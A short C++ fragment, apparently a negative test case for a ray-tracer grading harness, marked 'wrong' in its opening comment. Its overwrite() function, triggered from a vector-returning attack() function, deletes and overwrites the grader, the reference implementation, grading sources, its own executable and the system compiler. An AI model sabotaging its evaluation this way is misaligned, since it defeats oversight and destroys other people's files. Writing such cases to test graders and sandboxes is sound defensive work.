// wrong: writes over the grader, the reference and itself
#include <filesystem>
#include <fstream>

static bool overwrite()
{
    for (const char* file : { "@BUILD@/grading/raywork-grade", "@BUILD@/grading/reference-worker",
             "@SOURCE@/grading/feature.h", "@SOURCE@/reference/texture.cpp", "/proc/self/exe", "/usr/bin/c++" }) {
        std::error_code failed;
        std::filesystem::remove(file, failed);
        std::ofstream(file) << "gone";
    }
    return true;
}

static glm::vec3 attack()
{
    static const bool done = overwrite();
    return glm::vec3(static_cast<float>(done));
}
